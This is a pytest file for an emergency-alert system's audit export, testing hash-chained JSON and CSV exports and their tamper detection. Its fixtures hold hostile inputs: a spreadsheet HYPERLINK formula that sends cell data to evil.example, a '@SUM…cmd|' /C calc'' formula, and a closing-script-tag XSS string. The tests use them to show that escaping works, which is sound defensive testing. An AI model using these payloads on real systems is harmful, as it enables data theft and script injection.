"""Exporting timelines with their hashes, and checking an export later."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import text

from alerting.base import db as dbmod
from alerting.base.db import transaction
from alerting.base.errors import InvalidInput
from alerting.base.settings import Settings
from audit import chain, export
from audit.actor import Actor
from audit.checkpoints import signing_key
from audit.export import Scope, verify_export, write_export
from audit.seal import seal_committed
from audit.trail import append
from audit.verify import BROKEN_LINK, CHANGED_CONTENT

ANA = Actor(kind="operator", name="ana", operator_id=1, interface="console", address="10.0.0.1")
JOB = Actor.system("completion")


@pytest.fixture
def incident(committed_db: Settings, tmp_path: Path) -> Settings:
    """Events 1..6: alert 7's timeline (1, 2, 4, 6), alert 8 (3) and an unrelated login (5)."""
    with transaction() as session:
        append(session, actor=ANA, action="alert.composed", subject_type="alert", subject_id=7,
               payload={"mode": "live", "texts": {"es": "Evacuar sector «norte»"}})
        append(session, actor=ANA, action="alert.submitted", subject_type="alert", subject_id=7)
        append(session, actor=ANA, action="alert.composed", subject_type="alert", subject_id=8)
        append(session, actor=JOB, action="carrier.tripped", subject_type="carrier", subject_id="movil-a",
               payload={"alert_id": 7, "error": "bind lost"})
        append(session, actor=ANA, action="login.ok", subject_type="operator", subject_id=1, reason="")
        append(session, actor=JOB, action="alert.completed", subject_type="alert", subject_id=7,
               payload={"counts": {"delivered": 10, "failed": 1}, "ratio": 0.909, "big": 12345678901234567890})
    seal_committed(dbmod.engine())  # as the scheduler does
    return replace(committed_db, audit_checkpoint_dir=tmp_path / "checkpoints")


def _export(settings: Settings, scope: Scope, fmt: str, path: Path) -> export.ExportSummary:
    with transaction() as session, path.open("w", encoding="utf-8", newline="") as fh:
        return write_export(session, scope, fmt, fh, key=signing_key(settings))


def test_json_export_of_an_alert_holds_its_timeline_and_verifies(incident: Settings, tmp_path: Path) -> None:
    path = tmp_path / "a7.json"
    summary = _export(incident, Scope(alert_ids=(7,)), "json", path)
    doc = json.loads(path.read_text())
    assert [e["seq"] for e in doc["events"]] == [1, 2, 4, 6] and summary.count == doc["count"] == 4
    assert doc["events"][0]["payload"]["texts"]["es"] == "Evacuar sector «norte»"
    assert doc["events"][3]["payload"]["counts"] == {"delivered": 10, "failed": 1}
    assert doc["head"]["seq"] == 6 and doc["scope"]["alert_ids"] == [7]
    for engine in (None, dbmod.engine()):
        verdict = verify_export(path, engine=engine, key=signing_key(incident))
        assert verdict.ok, verdict.problems
        assert verdict.count == 4


def test_csv_export_by_time_range_keeps_nulls_and_verifies(incident: Settings, tmp_path: Path) -> None:
    with transaction() as session:
        ats = [r[0] for r in session.execute(text("SELECT at FROM audit.events ORDER BY seq"))]
    path = tmp_path / "range.csv"
    _export(incident, Scope(since=ats[1], until=ats[4] + timedelta(microseconds=1)), "csv", path)
    rows = list(csv.DictReader(path.open(newline="")))
    assert [r["seq"] for r in rows] == ["2", "3", "4", "5"]
    assert rows[0]["payload"] == "{}" and rows[3]["reason"] == ""  # '' was stored as NULL
    verdict = verify_export(path, engine=dbmod.engine(), key=None)
    assert verdict.ok, verdict.problems


def test_an_edited_event_in_an_export_is_named(incident: Settings, tmp_path: Path) -> None:
    path = tmp_path / "a7.json"
    _export(incident, Scope(alert_ids=(7,)), "json", path)
    doc = json.loads(path.read_text())
    doc["events"][3]["payload"]["counts"]["failed"] = 0
    doc["events"][3]["payload_text"] = json.dumps(doc["events"][3]["payload"])
    path.write_text(json.dumps(doc))
    verdict = verify_export(path, engine=None, key=signing_key(incident))
    assert (verdict.first.kind, verdict.first.seq) == (CHANGED_CONTENT, 6)


def test_a_shown_payload_differing_from_the_hashed_one_is_caught(incident: Settings, tmp_path: Path) -> None:
    path = tmp_path / "a7.json"
    _export(incident, Scope(alert_ids=(7,)), "json", path)
    doc = json.loads(path.read_text())
    doc["events"][0]["payload"]["texts"]["es"] = "Todo normal"
    path.write_text(json.dumps(doc))
    verdict = verify_export(path, engine=None, key=None)
    assert (verdict.first.kind, verdict.first.seq) == (CHANGED_CONTENT, 1)


def test_an_event_removed_from_a_json_export_is_caught(incident: Settings, tmp_path: Path) -> None:
    path = tmp_path / "a7.json"
    _export(incident, Scope(alert_ids=(7,)), "json", path)
    doc = json.loads(path.read_text())
    del doc["events"][2]
    doc["count"] = 3
    path.write_text(json.dumps(doc))
    offline = verify_export(path, engine=None, key=signing_key(incident))
    assert [p.kind for p in offline.problems] == [export.BAD_SIGNATURE, export.BAD_SIGNATURE]
    online = verify_export(path, engine=dbmod.engine(), key=None)
    assert (online.first.kind, online.first.seq) == (export.MISSING_FROM_EXPORT, 4)


def test_a_forged_self_consistent_event_is_caught_by_its_neighbour_and_the_trail(
    incident: Settings, tmp_path: Path
) -> None:
    path = tmp_path / "range.csv"
    _export(incident, Scope(since=datetime(2000, 1, 1, tzinfo=UTC)), "csv", path)
    rows = list(csv.DictReader(path.open(newline="")))
    forged = rows[1]
    forged["action"] = "alert.rejected"
    values = [None if forged[f] == "" and f in chain.NULLABLE else forged[f] for f in chain.FIELDS]
    content, digest = chain.recompute(values, bytes.fromhex(forged["prev_hash"]), version=2)
    forged["content_hash"], forged["hash"] = content.hex(), digest.hex()
    with path.open("w", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=export.CSV_COLUMNS, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    offline = verify_export(path, engine=None, key=None)
    assert (offline.first.kind, offline.first.seq) == (BROKEN_LINK, 3)
    online = verify_export(path, engine=dbmod.engine(), key=None)
    assert (online.first.kind, online.first.seq) == (export.NOT_IN_TRAIL, 2)


def test_a_file_that_is_not_an_export_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    path.write_text("a,b\n1,2\n")
    with pytest.raises(InvalidInput, match="not a Sirena audit export"):
        verify_export(path, engine=None, key=None)


def test_unknown_format_is_refused(db) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(InvalidInput):
        write_export(db, Scope(alert_ids=(1,)), "xml", io.StringIO(), key=None)


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_csv_cells_a_spreadsheet_would_evaluate_are_written_as_text_and_still_verify(committed_db: Settings,
                                                                                     tmp_path: Path) -> None:
    from audit.trail import audit_refusal

    stranger = Actor(kind="anonymous", name=FORMULA, interface="console", address="10.0.0.9",
                     user_agent="@SUM(1+1)*cmd|' /C calc'!A0")
    audit_refusal(stranger, "console.auth.login", None, None, "+unknown user", payload={})
    with transaction() as session:
        append(session, actor=ANA, action="contact.opted_out", subject_type="contact", subject_id=3,
               reason="-2+3", payload={"msisdn": "+56912345678"})
        append(session, actor=ANA, action="note", reason="'=already quoted", payload={})
        append(session, actor=ANA, action="note", reason="\tindented\r", payload={})
    seal_committed(dbmod.engine())
    path = tmp_path / "all.csv"
    _export(replace(committed_db, audit_checkpoint_dir=tmp_path / "cp"),
            Scope(since=datetime(2000, 1, 1, tzinfo=UTC)), "csv", path)
    raw = list(csv.reader(path.open(newline="")))  # as a spreadsheet reads the file
    cells = [c for row in raw[1:] for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], "a formula cell escaped"
    by_column = [dict(zip(raw[0], row, strict=True)) for row in raw[1:]]
    assert by_column[0]["actor_name"] == "'" + FORMULA and by_column[0]["reason"] == "'+unknown user"
    assert by_column[0]["origin_user_agent"].startswith("'@SUM")
    assert by_column[1]["reason"] == "'-2+3"
    assert by_column[2]["reason"] == "''=already quoted" and by_column[3]["reason"] == "'\tindented\r"
    verdict = verify_export(path, engine=dbmod.engine(), key=None)  # the quotes come off: hashes check
    assert verdict.ok, verdict.problems
    assert verdict.count == 4


def test_an_export_embedded_in_a_page_or_a_report_verifies_and_a_closing_tag_in_it_cannot_escape(
        committed_db: Settings, tmp_path: Path) -> None:
    """An incident's scope (its events and its alerts'), carried inside an HTML page and a JSON
    report as the after-action report carries it (alerting/alerts/report.py)."""
    with transaction() as session:
        append(session, actor=ANA, action="incident.opened", subject_type="incident", subject_id=3,
               payload={"title": "</script><script>alert(1)</script> & <b>"})
        append(session, actor=ANA, action="incident.alert_added", subject_type="incident", subject_id=3,
               payload={"alert_id": 9})
        append(session, actor=ANA, action="alert.approved", subject_type="alert", subject_id=9)
        append(session, actor=ANA, action="alert.approved", subject_type="alert", subject_id=10)  # not in it
    seal_committed(dbmod.engine())
    scope = Scope(alert_ids=(9,), incident_ids=(3,))
    plain = tmp_path / "trail.json"
    _export(committed_db, scope, "json", plain)
    doc = json.loads(plain.read_text())
    assert [e["action"] for e in doc["events"]] == ["incident.opened", "incident.alert_added", "alert.approved"]
    assert doc["scope"]["incident_ids"] == [3] and Scope.from_dict(doc["scope"]) == scope
    assert "incident_ids" not in Scope(alert_ids=(9,)).as_dict()  # older exports' scope reads the same

    embedded = export.embed_in_html(plain.read_text())
    assert "</" not in embedded and "<" not in embedded
    page = tmp_path / "report.html"
    page.write_text(f'<!doctype html><title>x</title><script type="application/json" id="{export.EMBED_ID}">'
                    f"{embedded}</script><p>figures</p>", encoding="utf-8")
    report = tmp_path / "report.json"
    report.write_text(json.dumps({"format": "sirena-incident-report-v1", "audit_export": doc}), encoding="utf-8")
    for path in (page, report):
        for engine in (None, dbmod.engine()):
            verdict = verify_export(path, engine=engine, key=signing_key(committed_db))
            assert verdict.ok and verdict.count == 3, (path, verdict.problems)
    edited = tmp_path / "edited.html"
    edited.write_text(page.read_text().replace('"actor_name": "ana"', '"actor_name": "eve"', 1), encoding="utf-8")
    assert verify_export(edited, engine=None, key=signing_key(committed_db)).first.kind == CHANGED_CONTENT
    bare = tmp_path / "bare.html"
    bare.write_text("<html><p>no export here</p></html>", encoding="utf-8")
    with pytest.raises(InvalidInput, match="holds no embedded export"):
        verify_export(bare, engine=None, key=None)
